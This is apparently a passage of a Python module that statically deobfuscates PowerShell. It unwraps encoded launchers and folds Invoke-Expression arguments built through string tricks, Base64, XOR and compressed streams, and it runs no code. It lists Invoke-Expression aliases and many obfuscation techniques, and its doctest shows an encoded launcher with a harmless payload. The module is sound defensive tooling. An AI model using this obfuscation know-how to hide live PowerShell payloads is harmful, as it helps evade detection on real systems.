"""Static PowerShell deobfuscation: peel layers without executing anything.

Each step either unwraps a launcher (``powershell -enc``, ``cmd /c``, ``set x=...``, stdin,
clipboard) or finds an Invoke-Expression-like call (``iex``, ``&``/``.`` with a computed name such as
``$ShellId[1]+$ShellId[13]+'x'``, ``| iex``) whose argument a tiny constant folder can compute from
literals alone (strings, numbers, arrays, ``+ -f -join -split -replace -bxor``, casts,
``[Convert]::FromBase64String``, Deflate/GZip streams...). That string is the next layer. What the
folder does not know is unknown, and unknown stays as written: no call is ever made, no PowerShell
runs. Time, depth and sizes are bounded and a cut is reported in ``truncated``/``reason``.

>>> r = deobfuscate("powershell -nop -enc SQBFAFgAIAAoACcAVwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQAnACkA")
>>> [layer.technique for layer in r.layers], r.final
(['encodedcommand', 'iex'], 'Write-Host hi')
"""

from __future__ import annotations

import base64
import binascii
import re
import time
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Any, AnyStr

from ..native import native
from .tokenize import Tok, Token, code_tuples, string_value, unescape, variable_name, word_value

__all__ = ["Layer", "Result", "deobfuscate", "extract_iocs"]

MAX_BYTES = 4 * 1024 * 1024  # input (and any decoded layer) beyond this is cut and reported
MAX_LAYERS = 64
MAX_VALUE = 8 * 1024 * 1024  # the largest string/array the folder builds (caps '*', ranges, inflation)
MAX_DEPTH = 120  # parser recursion: ~60 nested parentheses, well inside Python's stack
_AFFORD_MIN = 100_000  # characters: shorter work needs no clock read before it starts
TICKS = 32  # steps between clock reads: a read is ~50 ns; a step can cost far more on big tokens
# The budget is counted in work, not read from the wall clock: steps of the passes, tokens
# scanned and characters decoded or searched, each at what it takes on a reference machine (these
# constants; bench/powershell.py --calibrate measures them). So a script gets the same analysis on
# a busy machine as on an idle one, and a rerun the same detections. The wall clock is a backstop
# for work the counts miss: a run BACKSTOP times slower than its count ends by the clock.
STEP_S = 0.5e-6  # a step of a pass over the tokens
PARSE_STEPS = 8  # an expression parsed (a pipeline: its binary, unary, primary and member calls)
TOKEN_S = 0.25e-6
CHAR_S = 20e-9
IOC_CHAR_S = 15e-9  # the IOC scan, a character
BACKSTOP = 10.0


@dataclass
class Layer:
    """One peeled layer: the technique(s) that produced it and the text after it."""

    technique: str
    text: str

    def to_dict(self) -> dict[str, str]:
        return {"technique": self.technique, "text": self.text}


@dataclass
class Result:
    """What ``deobfuscate`` recovered; ``final`` is the innermost text."""

    layers: list[Layer] = field(default_factory=list)
    final: str = ""
    iocs: dict[str, list[str]] = field(default_factory=dict)
    techniques: set[str] = field(default_factory=set)
    truncated: bool = False
    reason: str | None = None
    secure_string: bool = False

    def to_dict(self) -> dict[str, Any]:
        return {
            "layers": [layer.to_dict() for layer in self.layers],
            "final": self.final,
            "iocs": self.iocs,
            "techniques": sorted(self.techniques),
            "truncated": self.truncated,
            "reason": self.reason,
            "secure_string": self.secure_string,
        }


class _Stop(Exception):
    """Raised inside the folder when the time budget or a size cap is hit."""


class _Ctx:
    """The budget of one deobfuscation: the work done so far (``spent``, in seconds of the
    reference machine), the steps not yet counted (``ticks``), and why the work stopped."""

    __slots__ = ("deadline", "end", "ticks", "reason", "max_bytes", "spent", "t0")

    def __init__(self, budget_ms: float, max_bytes: int) -> None:
        # the passes stop at `deadline`; the last tenth of the budget, up to `end`, is kept for
        # the work after them (IOCs, the SecureString check), which stops at `end`
        self.t0 = time.perf_counter()
        self.spent = 0.0
        self.end = budget_ms / 1000.0
        self.deadline = self.end - budget_ms / 10_000.0
        self.ticks = 0
        self.reason: str | None = None
        self.max_bytes = max_bytes

    def now(self) -> float:
        """The work so far, or the wall clock's time over BACKSTOP when that is more."""
        return max(self.spent, (time.perf_counter() - self.t0) / BACKSTOP)

    def probe(self) -> _Ctx:
        """A context on this one's budget whose stop reason stays its own (the caller takes
        its count back: ``ctx.spent = probe.spent``)."""
        p = _Ctx(0, self.max_bytes)
        p.t0, p.spent, p.end, p.deadline = self.t0, self.spent, self.end, self.deadline
        return p

    def token_clock(self) -> float:
        """The tokenizer's clock: it reads it every 1024 tokens."""
        self.spent += 1024 * TOKEN_S
        return self.now()

    def tick(self, n: int = 1) -> None:
        self.ticks += n
        if self.ticks >= TICKS:
            self.check()

    def check(self) -> None:
        """Count the steps (every TICKS of them): stop past the deadline."""
        self.spent += self.ticks * STEP_S
        self.ticks = 0
        if self.now() > self.deadline:
            self.reason = self.reason or "time budget"  # the first cause is the telling one
            raise _Stop

    def afford(self, chars: int) -> None:
        """Count work over *chars* characters (decoding, unescaping: single C calls the clock
        cannot interrupt), stopping first (time budget) when it would end past the deadline."""
        if chars > _AFFORD_MIN and self.now() + chars * CHAR_S > self.deadline:
            self.reason = self.reason or "time budget"
            raise _Stop
        self.spent += chars * CHAR_S

    def reserve(self, text: str) -> None:
        """Keep time after the passes for the work on *text* that follows them (hashing,
        lowering, slicing, freeing: a few ns a character), on top of the last tenth."""
        self.deadline = min(self.deadline, self.end - len(text) * (4e-9 if text.isascii() else 12e-9))

    def token_deadline(self) -> float:
        """When tokenizing must stop: freeing the tokens later costs a third of making them, and
        folding needs time too, so a scan may use 60% of what is left."""
        now = self.now()
        return now + 0.6 * (self.deadline - now)

    def size(self, n: int) -> None:
        if n > MAX_VALUE or n > self.max_bytes * 2:
            self.reason = "size cap"
            raise _Stop


class _Unknown:
    __slots__ = ()

    def __repr__(self) -> str:
        return "UNKNOWN"


UNKNOWN = _Unknown()

# Values of automatic variables on a default Windows PowerShell 5.1, which obfuscators index into.
_AUTO_VARS: dict[str, Any] = {
    "shellid": "Microsoft.PowerShell",
    "pshome": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    "env:comspec": "C:\\WINDOWS\\system32\\cmd.exe",
    "env:public": "C:\\Users\\Public",
    "env:windir": "C:\\WINDOWS",
    "env:systemroot": "C:\\WINDOWS",
    "verbosepreference": "SilentlyContinue",
    "debugpreference": "SilentlyContinue",
    "warningpreference": "Continue",
    "erroractionpreference": "Continue",
    "progresspreference": "Continue",
    "ofs": " ",
    "true": True,
    "false": False,
    "null": None,
}
_IEX_NAMES = frozenset({"iex", "invoke-expression", "microsoft.powershell.utility\\invoke-expression"})
_ENCODINGS = {
    "unicode": "utf-16-le", "utf8": "utf-8", "ascii": "ascii", "default": "cp1252", "utf32": "utf-32-le",
    "bigendianunicode": "utf-16-be", "utf7": "utf-7",
}


class _Bytes(bytes):
    """A byte[] value (kept apart from str so that joins and -bxor behave as in PowerShell)."""


@dataclass
class _Obj:
    """An object the folder knows: a type, an encoding, a stream, a script block, a variable."""

    kind: str
    data: Any = None
    extra: Any = None


_AUTO_VARS["executioncontext"] = _Obj("executioncontext")


def _to_str(v: Any) -> str:
    if v is None or v is UNKNOWN:
        return ""
    if isinstance(v, str):
        return v
    if isinstance(v, bool):
        return "True" if v else "False"
    if isinstance(v, bytes):
        return " ".join(str(b) for b in v)
    if isinstance(v, list):
        return " ".join(_to_str(x) for x in v)
    if isinstance(v, float) and v.is_integer():
        return str(int(v))
    if isinstance(v, _Obj):
        return str(v.data) if v.kind in ("scriptblock", "type") else ""
    return str(v)


def _to_int(v: Any) -> int | None:
    if isinstance(v, bool):
        return int(v)
    if isinstance(v, int):
        return v
    if isinstance(v, float):
        return int(round(v))
    if isinstance(v, str):
        s = v.strip()
        try:
            return int(s, 16) if s.lower().startswith("0x") else int(s)
        except ValueError:
            return None
    return None


def _as_list(v: Any) -> list[Any]:
    if isinstance(v, list):
        return v
    if isinstance(v, bytes):
        return list(v)
    return [v]


def _known(v: Any) -> bool:
    if v is UNKNOWN:
        return False
    if isinstance(v, list):  # `in` runs at C speed, and nothing but UNKNOWN equals UNKNOWN
        return UNKNOWN not in v and all(_known(x) for x in v if isinstance(x, list))
    return True


_DOTNET_FMT = re.compile(r"\{\{|\}\}|\{(\d+)(?:\s*,\s*(-?\d+))?(?::([^}]*))?\}")


def _format(fmt: str, args: list[Any]) -> Any:
    def sub(m: re.Match[str]) -> str:
        g = m.group()
        if g == "{{":
            return "{"
        if g == "}}":
            return "}"
        i = int(m.group(1))
        if i >= len(args):
            raise IndexError
        v = args[i]
        spec = (m.group(3) or "").strip()
        if spec[:1] in ("x", "X") and isinstance(v, int):
            s = format(v, spec[0] + (spec[1:] or ""))
        else:
            s = _to_str(v)
        if m.group(2):
            w = int(m.group(2))
            s = s.ljust(-w) if w < 0 else s.rjust(w)
        return s

    try:
        return _DOTNET_FMT.sub(sub, fmt)
    except (IndexError, ValueError):
        return UNKNOWN


_REGEX_RISKY = re.compile(r"\)[*+?{]|\\[1-9kg]|\(\?[<=!]|[*+]\S?[*+]")


def _safe_regex(pat: str, ignore_case: bool) -> re.Pattern[str] | None:
    """Compile a sample's regex only if it cannot backtrack catastrophically (no nested quantifiers)."""
    if len(pat) > 200 or _REGEX_RISKY.search(pat):
        return None
    try:
        return re.compile(pat, re.I if ignore_case else 0)
    except (re.error, OverflowError, RecursionError):
        return None


def _replacement(s: str) -> str:
    s = s.replace("\\", "\\\\")
    return re.sub(r"\$(\$|\d+|\{(\w+)\})", lambda m: "$" if m.group(1) == "$" else f"\\g<{m.group(2) or m.group(1)}>", s)


def _is_reverse_index(idx: Any) -> bool:
    return isinstance(idx, list) and len(idx) > 1 and all(isinstance(i, int) for i in idx[:3]) and idx[0] == -1 and idx[1] == -2


_OPEN = frozenset({"lparen", "lbrace", "subexpr", "arrayexpr", "hashtable", "lbracket"})
_CLOSE = frozenset({"rparen", "rbrace", "rbracket"})
_BRACKET_ROLES = {**dict.fromkeys(_OPEN, 1), **dict.fromkeys(_CLOSE, 2)}


def _bracket_table(toks: list[Tok]) -> Sequence[int]:
    """For each token the index of the bracket closing it (len(toks) when none)."""
    if (c := native()) is not None:
        return memoryview(c.ps_brackets(toks, _BRACKET_ROLES)).cast("i")
    n = len(toks)
    close = [n] * n
    stack: list[int] = []
    for j, tok in enumerate(toks):
        k = tok[0]
        if k in _OPEN:
            stack.append(j)
        elif k in _CLOSE and stack:
            close[stack.pop()] = j
    return close


_CMP = frozenset({
    "-join", "-split", "-csplit", "-isplit", "-replace", "-creplace", "-ireplace", "-eq", "-ne",
    "-ceq", "-cne", "-ieq", "-ine", "-like", "-notlike", "-match", "-notmatch",
})
# The binary operators by precedence (higher binds tighter), all left-associative; `..`, the
# comma and the unary operators bind tighter still.
_PREC: dict[str, int] = {
    **dict.fromkeys(_CMP, 1), "-bxor": 2, "-band": 2, "-bor": 2, "+": 3, "-": 3, "*": 4, "/": 4, "%": 4, "-f": 5,
}
_PLAIN_OPS = frozenset(_PREC) | {"..", "::", "=", "!"}  # as normalised: lower case, ASCII dash
_DASHES = "\u2013\u2014\u2015"
_LITERALS = frozenset({"string", "number", "variable", "herestring"})
# after a type, what makes it a value rather than a cast: `[int])`, `[int] + 1`, `[int].Name`...
_NO_CAST = frozenset({"eof", "rparen", "semicolon", "newline", "pipe", "comma", "operator", "dot", "rbrace"})
_PAD = 8  # the folder looks a few tokens past where it stands: past the end it reads "eof" and ""
_EOF = Token("eof", "", -1)
# The same names recur within and across texts (85% of _fold's word checks hit): the functions of
# a name below are cached, for names of up to _SHORT characters; a longer one (rare) would hold
# memory, so it goes to the function itself (f.__wrapped__).
_SHORT = 64


def _norm_op(s: str) -> str:
    """An operator lower-cased, with a dash of any kind normalised to '-'."""
    if s in _PLAIN_OPS:  # the common case
        return s
    s = s.lower()
    return "-" + s[1:] if s[:1] in _DASHES else s


@lru_cache(maxsize=4096)
def _variable(text: str) -> str:
    """The name of the variable token whose text is *text*."""
    return variable_name(Token("variable", text, 0))


@lru_cache(maxsize=4096)
def _iex_name(text: str) -> bool:
    """Whether the word token whose text is *text* names Invoke-Expression."""
    return word_value(Token("word", text, 0)).lower() in _IEX_NAMES


@lru_cache(maxsize=4096)
def _type_name(text: str) -> str:
    """The name of the type token whose text is *text*: lower case, without spaces or `System.`."""
    s = word_value(Token("type", text, 0)).strip()[1:-1].strip().lower().replace(" ", "")
    return s[7:] if s.startswith("system.") else s


class _Tables:
    """What the folders over one token list share: the tokens padded with "eof" ones (the folder
    reads a few tokens past where it stands, with no bounds check), and the bracket table, built
    when first needed."""

    __slots__ = ("toks", "padded", "close")

    def __init__(self, toks: list[Tok]) -> None:
        self.toks = toks
        self.padded = toks + [_EOF] * _PAD
        self.close: Sequence[int] | None = None


class _Folder:
    """A constant folder over a token list: computes pure expressions, UNKNOWN for anything else."""

    def __init__(self, toks: list[Tok], env: dict[str, Any], ctx: _Ctx, techniques: set[str],
                 tables: _Tables | None = None) -> None:
        self.n = len(toks)
        self.env = env
        self.ctx = ctx
        self.tech = techniques
        self.depth = 0
        self.tables = tables if tables is not None else _Tables(toks)
        self.t = self.tables.padded

    # -- helpers ---------------------------------------------------------------------------------
    def op(self, i: int) -> str:
        """The operator at i, normalised ("" when token i is no operator)."""
        tok = self.t[i]
        return _norm_op(tok[1]) if tok[0] == "operator" else ""

    def text(self, i: int) -> str:
        return self.t[i][1]

    def adjacent(self, i: int) -> bool:
        """True when token i starts right where token i-1 ends (no space: a method call, an index)."""
        return 0 < i < self.n and self.t[i - 1][2] + len(self.t[i - 1][1]) == self.t[i][2]

    def typename(self, i: int) -> str:
        text = self.t[i][1]
        return _type_name(text) if len(text) <= _SHORT else _type_name.__wrapped__(text)

    def variable(self, i: int) -> str:
        text = self.t[i][1]
        return _variable(text) if len(text) <= _SHORT else _variable.__wrapped__(text)

    def names_iex(self, i: int) -> bool:
        """Whether the word at i is Invoke-Expression."""
        text = self.t[i][1]
        return _iex_name(text) if len(text) <= _SHORT else _iex_name.__wrapped__(text)

    def _too_deep(self) -> None:
        self.ctx.reason = "depth cap"
        raise _Stop

    # -- grammar (lowest precedence first) -------------------------------------------------------
    def foreach(self, v: Any, i: int) -> tuple[Any, int]:
        end = self.match_close(i)
        out: list[Any] = []
        items = _as_list(v) if _known(v) else [UNKNOWN]
        saved = self.env.get("_")
        for item in items:
            self.ctx.tick()
            self.env["_"] = item
            r, j = self.pipeline(i + 1, pipes=False)
            if j != end or not _known(r):
                out = [UNKNOWN]
                break
            out.append(r)
        self.env["_"] = saved
        return (out if len(out) != 1 else out[0]), end + 1

    def match_close(self, i: int) -> int:
        """Index of the bracket closing the one at i (or n); one linear pass builds the whole table."""
        close = self.tables.close
        if close is None:
            close = self.tables.close = _bracket_table(self.tables.toks)
        return close[i] if i < self.n else self.n

    def pipeline(self, i: int, pipes: bool = True) -> tuple[Any, int]:
        """An expression, then (with *pipes*) the `| % {...}` after it: the one command that folds."""
        # the depth cap, and ctx.tick() (inlined: these are the folder's most frequent calls)
        self.depth += 1
        if self.depth > MAX_DEPTH:
            self._too_deep()
        ctx = self.ctx
        ctx.ticks += PARSE_STEPS
        if ctx.ticks >= TICKS:
            ctx.check()
        try:
            v, i = self.binop(i, 1)
        finally:
            self.depth -= 1
        t = self.t
        while pipes and t[i][0] == "pipe":
            name = word_value(t[i + 1]).lower() if t[i + 1][0] == "word" else self.text(i + 1)
            if name in ("%", "foreach", "foreach-object") and t[i + 2][0] == "lbrace":
                v, i = self.foreach(v, i + 2)
            else:
                return v, i
        return v, i

    def binop(self, i: int, floor: int) -> tuple[Any, int]:
        """Operands joined by the binary operators of precedence *floor* or more, left to right:
        precedence climbing, one frame a level in use instead of a function a level."""
        t = self.t
        k = t[i][0]
        if k == "comma":
            v, i = self.comma(i)
        else:  # comma() inlined (the operand, then the list it may start)
            nk = t[i + 1][0]
            if (k in _LITERALS and nk != "lbracket" and nk != "dot" and self.depth < MAX_DEPTH
                    and not (nk == "operator" and _norm_op(t[i + 1][1]) == "::")):
                v, i = self.primary(i)  # no index or member follows: what unary() would give
            else:
                v, i = self.unary(i)
            if t[i][0] == "comma":
                v, i = self.items(v, i)
        if t[i][0] != "operator":
            return v, i
        o = _norm_op(t[i][1])
        if o == "..":  # `..` binds tighter than them all, and does not chain
            v, i = self.range_(v, i + 1)
            if t[i][0] != "operator":
                return v, i
            o = _norm_op(t[i][1])
        while (p := _PREC.get(o, 0)) >= floor:
            r, i = self.binop(i + 1, p + 1)
            v = self.binary(o, v, r)
            if t[i][0] != "operator":
                break
            o = _norm_op(t[i][1])
        return v, i

    def range_(self, v: Any, i: int) -> tuple[Any, int]:
        """`v..` and the bound at i."""
        r, i = self.comma(i)
        a, b = _to_int(v), _to_int(r)
        if a is None or b is None:
            return UNKNOWN, i
        self.ctx.size(abs(b - a))
        return (list(range(a, b + 1)) if a <= b else list(range(a, b - 1, -1))), i

    def comma(self, i: int) -> tuple[Any, int]:
        if self.t[i][0] == "comma":  # unary comma: a one-element array
            v, i = self.unary(i + 1)
            return [v], i
        v, i = self.unary(i)
        return self.items(v, i) if self.t[i][0] == "comma" else (v, i)

    def items(self, v: Any, i: int) -> tuple[list[Any], int]:
        """The list that *v* starts, the comma at i."""
        t = self.t
        items = [v]
        while t[i][0] == "comma":
            self.ctx.tick()
            v, i = self.unary(i + 1)
            items.append(v)
        return items, i

    def unary(self, i: int) -> tuple[Any, int]:
        """Prefix operators and casts, then a primary and its chain of indexes and members."""
        self.depth += 1  # no tick: what repeats ticks (pipeline, binary, member, comma lists)
        if self.depth > MAX_DEPTH:
            self._too_deep()
        try:
            t = self.t
            k = t[i][0]
            if k == "operator":
                o = _norm_op(t[i][1])
                if o in ("-join", "-split"):
                    v, j = self.unary(i + 1)
                    return self.binary(o, v, "" if o == "-join" else None), j
                if o == "-":
                    v, j = self.unary(i + 1)
                    return (-v if isinstance(v, int | float) and not isinstance(v, bool) else UNKNOWN), j
                if o in ("!", "-not"):
                    v, j = self.unary(i + 1)
                    return UNKNOWN, j
            elif k == "type" and self.op(i + 1) != "::" and t[i + 1][0] not in _NO_CAST:
                v, j = self.unary(i + 1)
                return self.cast(self.typename(i), v), j
            v, i = self.primary(i)
            while True:
                k = t[i][0]
                if k == "lbracket" and self.adjacent(i):
                    idx, j = self.pipeline(i + 1)
                    if t[j][0] != "rbracket":
                        return UNKNOWN, j
                    v, i = self.index(v, idx), j + 1
                elif k == "dot" or (k == "operator" and _norm_op(t[i][1]) == "::"):
                    static = k != "dot"
                    j = i + 1
                    nk = t[j][0]
                    if nk == "word":
                        name, j = word_value(t[j]), j + 1
                        if "." in name.strip("."):  # `A.B.C(x)` is one word token: walk the chain
                            *heads, name = name.split(".")
                            for h in heads:
                                v = self.member(v, h.lower(), None, static)
                                static = False
                    elif nk == "string":
                        name, j = string_value(t[j]), j + 1
                    elif nk in ("lparen", "variable"):
                        nv, j = self.primary(j)
                        name = _to_str(nv) if isinstance(nv, str) else ""
                        if name:
                            self.tech.add("member-string")
                    else:
                        return UNKNOWN, j
                    if not name:
                        return UNKNOWN, j
                    args: list[Any] | None = None
                    if t[j][0] == "lparen" and self.adjacent(j):
                        args, j = self.arglist(j)
                    v, i = self.member(v, name.lower(), args, static), j
                else:
                    return v, i
        finally:
            self.depth -= 1

    def arglist(self, i: int) -> tuple[list[Any], int]:
        end = self.match_close(i)
        if end == i + 1:
            return [], end + 1
        v, j = self.pipeline(i + 1)
        if j != end:
            return [UNKNOWN], end + 1
        if isinstance(v, list) and self.t[i + 1][0] != "comma" and self._top_comma(i + 1, end):
            return v, end + 1
        return [v], end + 1

    def _top_comma(self, i: int, end: int) -> bool:
        depth = 0
        t = self.t
        for j in range(i, end):
            k = t[j][0]
            if k in _OPEN:
                depth += 1
            elif k in _CLOSE:
                depth -= 1
            elif k == "comma" and depth == 0:
                return True
        return False

    def primary(self, i: int) -> tuple[Any, int]:
        k = self.t[i][0]
        # the kinds by how often they come, most first
        if k in ("lparen", "subexpr", "arrayexpr"):
            end = self.match_close(i)
            if self.t[i + 1][0] == "word":
                v, j = self.command(i + 1, end)
            elif end == i + 1:
                v, j = ([] if k == "arrayexpr" else None), end
            else:
                v, j = self.pipeline(i + 1)
                if k != "lparen":  # statements in $( ) / @( ): the value of the last one
                    while self.t[j][0] in ("semicolon", "newline") and j < end:
                        if self.t[j + 1][0] == "rparen":
                            j += 1
                            break
                        v, j = self.pipeline(j + 1)
            if j != end:
                v = UNKNOWN
            if k == "arrayexpr" and _known(v) and not isinstance(v, list):
                v = list(v) if isinstance(v, bytes) else [v]
            return v, end + 1
        if k == "variable":
            tok = self.t[i]
            name = self.variable(i)
            if "`" in tok[1]:
                self.tech.add("backticks")
            if name in self.env:
                return self.env[name], i + 1
            if name.startswith(("global:", "script:", "local:")) and name.split(":", 1)[1] in self.env:
                return self.env[name.split(":", 1)[1]], i + 1
            return UNKNOWN, i + 1
        if k == "number":
            return self.number(self.t[i][1]), i + 1
        if k == "string":
            tok = self.t[i]
            if len(tok[1]) > _AFFORD_MIN:
                self.ctx.afford(len(tok[1]))
            s = string_value(tok)
            if tok[1][:1] not in "'\u2018\u2019\u201a\u201b" and "$" in s:
                s2 = self.interpolate(s)
                return s2, i + 1
            if "`" in tok[1] and tok[1][:1] not in "'\u2018\u2019\u201a\u201b" and _IDLE_BACKTICK.search(tok[1]):
                self.tech.add("backticks")  # `t and `n are escapes; `W is there to break signatures
            return s, i + 1
        if k == "type":
            return _Obj("type", self.typename(i)), i + 1
        if k == "word":
            return self.command(i, self.n)
        if k == "herestring":
            self.ctx.afford(len(self.t[i][1]))
            s = string_value(self.t[i])
            if self.t[i][1][1:2] not in "'\u2018\u2019\u201a\u201b" and "$" in s:
                return self.interpolate(s), i + 1
            return s, i + 1
        return UNKNOWN, i + 1

    def number(self, s: str) -> Any:
        try:
            if s.isdecimal():  # the common case, no suffix (isdecimal is what `\d+` matches)
                return int(s)
            t = s.lower().rstrip("ld")
            mult = 1
            for suf, m in (("kb", 1 << 10), ("mb", 1 << 20), ("gb", 1 << 30), ("tb", 1 << 40), ("pb", 1 << 50)):
                if t.endswith(suf):
                    t, mult = t[:-2], m
            if t.startswith("0x"):
                return int(t, 16) * mult
            return int(t) * mult if t.isdecimal() else float(t) * mult
        except ValueError:
            return UNKNOWN

    _VAR = re.compile(r"\$(?:\{([^}]+)\}|((?:[A-Za-z_]\w*:)?\w+))")

    def interpolate(self, s: str) -> Any:
        if "$(" in s:
            return UNKNOWN
        unknown = False

        def sub(m: re.Match[str]) -> str:
            nonlocal unknown
            name = (m.group(1) or m.group(2)).lower()
            v = self.env.get(name, UNKNOWN)
            if v is UNKNOWN or isinstance(v, _Obj):
                unknown = True
                return m.group()
            return _to_str(v)

        out = self._VAR.sub(sub, s)
        return UNKNOWN if unknown else out

    def command(self, i: int, end: int) -> tuple[Any, int]:
        """A few pure commands in expression position; anything else is UNKNOWN up to *end*."""
        name = word_value(self.t[i]).lower()
        if name in ("new-object",):
            j = i + 1
            if self.t[j][0] == "parameter" and self.text(j).lower().startswith("-t"):
                j += 1
            if self.t[j][0] != "word":
                return UNKNOWN, end
            tname = word_value(self.t[j]).lower()
            tname = tname[7:] if tname.startswith("system.") else tname
            j += 1
            args: list[Any] = []
            if self.t[j][0] == "parameter" and self.text(j).lower().startswith("-a"):
                j += 1
            if j < end and self.t[j][0] not in ("rparen", "semicolon", "pipe"):
                if self.t[j][0] == "lparen":
                    args, j = self.arglist(j)
                else:
                    v, j = self.pipeline(j, pipes=False)
                    args = v if isinstance(v, list) else [v]
            return self.construct(tname, args), j
        if name in ("get-variable", "gv", "variable", "get-item", "gi", "ls", "dir", "gci", "get-childitem", "childitem", "item"):
            j = i + 1
            if self.t[j][0] == "parameter":
                j += 1
            if self.t[j][0] in ("string", "word"):
                pat = string_value(self.t[j]) if self.t[j][0] == "string" else word_value(self.t[j])
                if pat.lower().startswith("variable:"):
                    pat = pat[9:].lstrip("/\\")
                hit = _match_variable(pat)
                if hit is not None:
                    self.tech.add("iex-alias")
                    return _Obj("variable", hit[0], hit[1]), j + 1
            return UNKNOWN, end
        if name in ("get-clipboard", "gcb") and "clipboard" in self.env:
            return self.env["clipboard"], i + 1
        return UNKNOWN, end

    # -- semantics -------------------------------------------------------------------------------
    def binary(self, o: str, a: Any, b: Any) -> Any:
        self.ctx.tick()
        if o == "-join":
            if not _known(a) or (b is not None and not _known(b)):
                return UNKNOWN
            self.tech.add("join")
            items = a if isinstance(a, list) else list(a) if isinstance(a, bytes) else [a]
            return _to_str(b).join(_to_str(x) for x in items)
        if not _known(a) or not _known(b):
            return UNKNOWN
        if o == "+":
            if isinstance(b, _Obj) or isinstance(a, _Obj):
                return UNKNOWN
            if isinstance(a, str):
                self.tech.add("concat")
                r = a + _to_str(b)
                self.ctx.size(len(r))
                return r
            if isinstance(a, list):
                return a + _as_list(b)
            if isinstance(a, int | float) and isinstance(b, int | float):
                return a + b
            if isinstance(a, int | float) and isinstance(b, str):
                n = _to_int(b)
                return UNKNOWN if n is None else a + n
            return UNKNOWN
        if o in ("-", "*", "/", "%"):
            if o == "*" and isinstance(a, str | list) and isinstance(b, int):
                self.ctx.size(len(a) * max(b, 0))
                return a * b
            x, y = _to_int(a) if isinstance(a, str) else a, _to_int(b) if isinstance(b, str) else b
            if not isinstance(x, int | float) or not isinstance(y, int | float):
                return UNKNOWN
            if o == "-":
                return x - y
            if o == "*":
                return x * y
            if y == 0:
                return UNKNOWN
            return x / y if o == "/" else x % y
        if o in ("-bxor", "-band", "-bor"):
            if isinstance(a, list | bytes):
                return [self.binary(o, x, b) for x in _as_list(a)]
            x, y = _to_int(a), _to_int(b)
            if x is None or y is None:
                return UNKNOWN
            self.tech.add("bxor" if o == "-bxor" else "bitwise")
            return x ^ y if o == "-bxor" else x & y if o == "-band" else x | y
        if o == "-f":
            if not isinstance(a, str):
                return UNKNOWN
            self.tech.add("format")
            return _format(a, _as_list(b))
        if o in ("-split", "-csplit", "-isplit"):
            if b is None:
                return [x for x in re.split(r"\s+", _to_str(a).strip()) if x] if _to_str(a).strip() else []
            rx = _safe_regex(_to_str(b), o != "-csplit")
            if rx is None:
                return UNKNOWN
            self.tech.add("split")
            out: list[Any] = []
            for s in _as_list(a):
                out.extend(rx.split(_to_str(s)))
            self.ctx.size(len(out))
            return out
        if o in ("-replace", "-creplace", "-ireplace"):
            pair = _as_list(b)
            pat, rep = _to_str(pair[0]), _to_str(pair[1]) if len(pair) > 1 else ""
            rx = _safe_regex(pat, o != "-creplace")
            if rx is None:
                return UNKNOWN
            self.tech.add("replace")
            try:
                if isinstance(a, list):
                    return [rx.sub(_replacement(rep), _to_str(x)) for x in a]
                r = rx.sub(_replacement(rep), _to_str(a))
            except (re.error, IndexError):
                return UNKNOWN
            self.ctx.size(len(r))
            return r
        if o in ("-eq", "-ieq", "-ceq"):
            return _to_str(a).lower() == _to_str(b).lower() if o != "-ceq" else _to_str(a) == _to_str(b)
        return UNKNOWN

    def index(self, v: Any, idx: Any) -> Any:
        if not _known(v) or not _known(idx):
            return UNKNOWN
        if isinstance(v, _Obj) and v.kind == "variable":
            return UNKNOWN
        seq = v if isinstance(v, str | list | bytes) else None
        if seq is None:
            return UNKNOWN

        def one(k: Any) -> Any:
            n = _to_int(k)
            if n is None:
                return UNKNOWN
            if -len(seq) <= n < len(seq):
                return seq[n]
            return None

        if isinstance(idx, list):
            if _is_reverse_index(idx):
                self.tech.add("reverse")
            self.ctx.size(len(idx))
            return [one(k) for k in idx]
        return one(idx)

    def cast(self, t: str, v: Any) -> Any:
        if not _known(v):
            return UNKNOWN
        if t == "char":
            self.tech.add("char-codes")
            if isinstance(v, str) and len(v) == 1:
                return v
            n = _to_int(v)
            return chr(n) if n is not None and 0 <= n <= 0x10FFFF else UNKNOWN
        if t in ("char[]", "char"):
            self.tech.add("char-codes")
            if isinstance(v, str):
                return list(v)
            return [self.cast("char", x) for x in _as_list(v)]
        if t == "string":
            return _to_str(v)
        if t in ("int", "int32", "int64", "long", "byte", "int16", "uint32", "uint16"):
            if isinstance(v, str) and len(v) == 1 and not v.isdigit():
                return ord(v)
            n = _to_int(v)
            return UNKNOWN if n is None else n
        if t in ("byte[]", "int[]"):
            return [self.cast(t[:-2], x) for x in _as_list(v)]
        if t in ("string[]", "array", "object[]"):
            return [_to_str(x) if t == "string[]" else x for x in _as_list(v)]
        if t in ("io.memorystream",) and isinstance(v, bytes | list):
            return _Obj("stream", self._bytes(v))
        if t in ("scriptblock", "management.automation.scriptblock") and isinstance(v, str):
            return _Obj("scriptblock", v)
        return UNKNOWN

    def _bytes(self, v: Any) -> bytes | None:
        if isinstance(v, bytes):
            return v
        if isinstance(v, list):
            out = bytearray()
            for x in v:
                n = ord(x) if isinstance(x, str) and len(x) == 1 else _to_int(x)
                if n is None:
                    return None
                out.append(n & 0xFF)
            return bytes(out)
        return None

    def construct(self, tname: str, args: list[Any]) -> Any:
        if not all(_known(a) for a in args):
            return UNKNOWN
        if tname in ("io.memorystream",) and args:
            data = self._bytes(args[0] if not (isinstance(args[0], list) and len(args) == 1 and len(args[0]) == 1 and isinstance(args[0][0], bytes)) else args[0][0])
            return _Obj("stream", data) if data is not None else UNKNOWN
        if tname in ("io.compression.deflatestream", "io.compression.gzipstream") and args:
            src = args[0]
            if isinstance(src, _Obj) and src.kind == "stream" and src.data is not None:
                kind = "deflate" if "deflate" in tname else "gzip"
                return _Obj("stream", self.inflate(src.data, kind))
            return UNKNOWN
        if tname in ("io.streamreader",) and args:
            src = args[0]
            enc = "utf-8"
            if len(args) > 1 and isinstance(args[1], _Obj) and args[1].kind == "encoding":
                enc = args[1].data
            if isinstance(src, _Obj) and src.kind == "stream" and src.data is not None:
                return _Obj("reader", src.data, enc)
            return UNKNOWN
        if tname in ("text.asciiencoding", "text.utf8encoding", "text.unicodeencoding"):
            return _Obj("encoding", {"text.asciiencoding": "ascii", "text.utf8encoding": "utf-8"}.get(tname, "utf-16-le"))
        if tname in ("string",) and args:
            a0 = args[0]
            if isinstance(a0, list):
                return "".join(_to_str(x) for x in a0)
            return UNKNOWN
        return UNKNOWN

